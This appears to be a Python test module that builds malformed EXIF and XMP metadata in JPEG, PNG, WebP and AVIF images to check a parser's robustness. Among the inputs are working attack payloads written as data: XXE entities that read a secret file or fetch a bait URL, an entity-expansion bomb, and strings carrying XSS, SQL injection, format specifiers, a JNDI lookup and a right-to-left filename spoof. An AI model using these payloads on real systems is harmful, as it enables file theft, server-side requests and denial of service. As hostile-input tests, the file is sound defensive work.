"""EXIF and XMP that loop, lie, overflow and point outside, in each kind of file that can hold them."""

import struct
from collections.abc import Iterator

from tests.features.media import photos
from tests.hostile import place, seeds
from tests.hostile.corpus_jpeg import segment
from tests.hostile.items import AVIF, JPEG, PNG, WEBP, Bait, Item, rendered

_ASCII, _SHORT, _LONG, _RATIONAL, _UNDEFINED, _SRATIONAL = 2, 3, 4, 5, 7, 10
Entry = tuple[int, int, int, int]


def items(bait: Bait) -> Iterator[Item]:
    """Every block in a JPEG, the worst of them in the other kinds; none of it is a reason to refuse a picture."""
    for number, (name, block) in enumerate(blocks().items()):
        yield rendered(f"jpeg, {name}", in_jpeg(block), JPEG)
        if number % 3 == 0:
            yield rendered(f"png, {name}", in_png(block), PNG)
        elif number % 3 == 1:
            yield rendered(f"webp, {name}", in_webp(block), WEBP)
    for name in ("a directory that is its own next", "zero denominators", "a place of noise"):
        block = blocks()[name]
        avif = photos.encoded(seeds.photograph(), "AVIF", speed=10, exif=b"Exif\0\0" + block)
        yield rendered(f"avif, {name}", avif, AVIF)
    for name, packet in packets(bait).items():
        yield rendered(f"xmp, {name}", photos.jpeg(seeds.photograph(), xmp=packet), JPEG)
    plain = photos.jpeg(seeds.photograph())
    twice = segment(0xE1, b"Exif\0\0" + place.tiff(orientation=6)) + segment(0xE1, b"Exif\0\0" + place.tiff())
    yield rendered("two blocks that disagree", plain[:2] + twice + plain[2:], JPEG)


def in_jpeg(block: bytes) -> bytes:
    """Carry a block in a JPEG."""
    plain = photos.jpeg(seeds.photograph())
    return plain[:2] + segment(0xE1, b"Exif\0\0" + block) + plain[2:]


def in_png(block: bytes) -> bytes:
    """Carry a block in a PNG."""
    plain = photos.encoded(seeds.photograph(), "PNG")
    return plain[:33] + photos.png_chunk(b"eXIf", block) + plain[33:]


def in_webp(block: bytes) -> bytes:
    """Carry a block in a WebP, put in place of a sound one."""
    plain = photos.encoded(seeds.photograph(), "WEBP", exif=b"Exif\0\0" + place.tiff())
    at = plain.index(b"EXIF")
    chunk = b"EXIF" + struct.pack("<I", len(block)) + block + bytes(len(block) % 2)
    body = plain[12:at] + chunk
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def directory(*entries: Entry, then: int = 0, order: str = "<") -> bytes:
    """Write a directory: (tag, type, count, value or offset) each, and where the next one is."""
    packed = b"".join(struct.pack(order + "HHII", *entry) for entry in entries)
    return struct.pack(order + "H", len(entries)) + packed + struct.pack(order + "I", then)


def block_of(*entries: Entry, then: int = 0, heap: bytes = b"") -> bytes:
    """Write a block of one directory; what it points to begins at `heap_at(len(entries))`."""
    return b"II*\0" + struct.pack("<I", 8) + directory(*entries, then=then) + heap


def heap_at(entries: int) -> int:
    """Where the heap of `block_of` begins."""
    return 8 + 2 + 12 * entries + 4


def blocks() -> dict[str, bytes]:
    """Every block by its name."""
    return {**shapes(), **loops(), **counts(), **values(), **places()}


def shapes() -> dict[str, bytes]:
    """Blocks that hardly are any."""
    sound = place.tiff()
    return {
        "empty": b"",
        "one byte": b"I",
        "magic alone": b"II*\0",
        "another magic": b"II+\0" + sound[4:],
        "no byte order": b"XX*\0" + sound[4:],
        "orders mixed": b"MM\0*" + sound[4:],
        "first directory outside": b"II*\0" + b"\xff" * 4 + sound[8:],
        "first directory at 0": b"II*\0" + bytes(4) + sound[8:],
        "first directory at an odd place": b"II*\0" + struct.pack("<I", 9) + sound[8:],
        "cut in its directory": sound[:20],
        "cut behind its directory": sound[:62],
        "65,535 entries announced": b"II*\0" + struct.pack("<IH", 8, 65_535) + sound[10:],
        "no entries": block_of(),
        "5,000 entries": block_of(*((0x0112, _SHORT, 1, 6),) * 5_000),
        "zeros": bytes(60_000),
        "ones": b"\xff" * 60_000,
    }


def loops() -> dict[str, bytes]:
    """Directories that lead back to themselves."""
    far = heap_at(1)
    chain = b"".join(directory(then=8 + 6 * number) for number in range(1, 9_000))
    return {
        "a directory that is its own next": block_of((0x0112, _SHORT, 1, 1), then=8),
        "an EXIF directory that is the first": block_of((0x8769, _LONG, 1, 8)),
        "a GPS directory that is the first": block_of((0x8825, _LONG, 1, 8)),
        "an EXIF directory within itself": block_of((0x8769, _LONG, 1, far), heap=directory((0x8769, _LONG, 1, far))),
        "two directories in a ring": block_of(then=14) + directory(then=8),
        "9,000 directories in a chain": b"II*\0" + struct.pack("<I", 8) + chain,
        "1,000 EXIF directories": block_of(*((0x8769, _LONG, 1, 8),) * 1_000),
        "5,000 directories within a directory": block_of(
            (0x014A, _LONG, 5_000, far), heap=struct.pack("<I", 8) * 5_000
        ),
        "a thumbnail that is the file": block_of((0x0201, _LONG, 1, 0), (0x0202, _LONG, 1, 2**31)),
    }


def counts() -> dict[str, bytes]:
    """Counts and offsets that overflow."""
    made: dict[str, bytes] = {}
    for kind in (0, 1, 2, 5, 7, 10, 12, 13, 255, 65_535):
        made[f"2**32 - 1 of type {kind}"] = block_of((0x010F, kind, 2**32 - 1, 8))
    made["an offset behind the end"] = block_of((0x010F, _ASCII, 40, 60_000))
    made["an offset and a count that wrap"] = block_of((0x010F, _ASCII, 2**31, 2**31))
    made["count times size that wraps"] = block_of((0x829A, _RATIONAL, 2**29 + 1, 8))
    made["a count of none"] = block_of((0x010F, _ASCII, 0, 8), (0x0112, _SHORT, 0, 0))
    made["a string that ends nowhere"] = block_of((0x010F, _ASCII, 50, heap_at(1)), heap=b"A" * 50)
    return made


def values() -> dict[str, bytes]:
    """Values that no camera writes."""
    made: dict[str, bytes] = {}
    for orientation in (0, 9, 255, 65_535):
        made[f"orientation {orientation}"] = block_of((0x0112, _SHORT, 1, orientation))
    made["orientation as text"] = block_of((0x0112, _ASCII, 4, 0x36))
    made["orientation as rational"] = block_of((0x0112, _RATIONAL, 1, 8))
    texts = {
        "not UTF-8": b"\xff\xfe\xc3\x28\xa0\xa1" * 9,
        "controls and bells": b"\x07\x08\x1b[31m\r\n\t\x7f" * 6,
        "right to left": "\u202egpj.exe\u2066\u200f".encode() * 3,
        "zero bytes": bytes(64),
        "markup": b"<script>alert(1)</script>'; DROP TABLE posts;--" + bytes(1),
        "60,000 letters": b"A" * 60_000,
        "formats": b"%s%n%x{0.__class__}${jndi:ldap://127.0.0.1/a}",
    }
    for name, text in texts.items():
        far = heap_at(3)
        entries = [(tag, _ASCII, len(text), far) for tag in (0x010F, 0x0110, 0x0132)]
        made[f"a camera of {name}"] = block_of(*entries, heap=text)
    for date in (b"0000:00:00 00:00:00", b"9999:99:99 99:99:99", b"2026:02:30 25:61:61", b"    :  :     :  :  ", b"-1"):
        inner = directory((0x9003, _ASCII, len(date), heap_at(1) + 18))
        made[f"a date of {date.decode().strip() or 'blanks'}"] = block_of(
            (0x8769, _LONG, 1, heap_at(1)), heap=inner + date
        )
    return made


def places() -> dict[str, bytes]:
    """Places nowhere on earth."""
    degrees = {
        "zero denominators": (48, 0, 51, 0, 29, 0),
        "all zero": (0,) * 6,
        "largest numbers": (2**32 - 1, 1) * 3,
        "smallest fractions": (1, 2**32 - 1) * 3,
        "91 degrees": (91, 1, 0, 1, 0, 1),
        "61 minutes": (48, 1, 61, 1, 61, 1),
    }
    made = {name: gps(struct.pack("<6I", *six)) for name, six in degrees.items()}
    made["negative degrees"] = gps(struct.pack("<6i", -48, 1, -51, 1, -29, 1), kind=_SRATIONAL)
    made["a place of noise"] = gps(bytes(range(24)), kind=_UNDEFINED)
    made["degrees outside"] = block_of((0x8825, _LONG, 1, heap_at(1)), heap=directory((2, _RATIONAL, 3, 2**31)))
    made["one degree announced as 2**31"] = gps(struct.pack("<6I", 48, 1, 51, 1, 29, 1), count=2**31)
    made["a hemisphere of X"] = gps(struct.pack("<6I", 48, 1, 51, 1, 29, 1), hemisphere=0x58)
    return made


def gps(degrees: bytes, *, kind: int = _RATIONAL, count: int = 3, hemisphere: int = 0x4E) -> bytes:
    """Write a GPS directory with these degrees for both axes."""
    inner_at = heap_at(1)
    far = inner_at + 2 + 12 * 4 + 4
    inner = directory(
        (1, _ASCII, 2, hemisphere), (2, kind, count, far), (3, _ASCII, 2, 0x45), (4, kind, count, far)
    )  # fmt: skip
    return block_of((0x8825, _LONG, 1, inner_at), heap=inner + degrees)


def packets(bait: Bait) -> dict[str, bytes]:
    """XMP that would make a parser fetch, expand or dig."""
    entities = b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 12))
    return {
        "entities that multiply": b'<!DOCTYPE x [<!ENTITY l0 "laugh">' + entities + b"]><x>&l11;</x>",
        "an entity from a file": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file://%s">]><x>&e;</x>' % bytes(bait.secret_path),
        "an entity from the net": b'<!DOCTYPE x [<!ENTITY %% e SYSTEM "%s/xmp">%%e;]><x/>' % bait.url.encode(),
        "9,000 elements deep": b"<a>" * 9_000 + b"</a>" * 9_000,
        "never closed": b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf",
        "not UTF-8": b"<x>\xff\xfe\xc3\x28</x>",
        "10,000 attributes": b"<x " + b"a='' " * 10_000 + b"/>",
    }
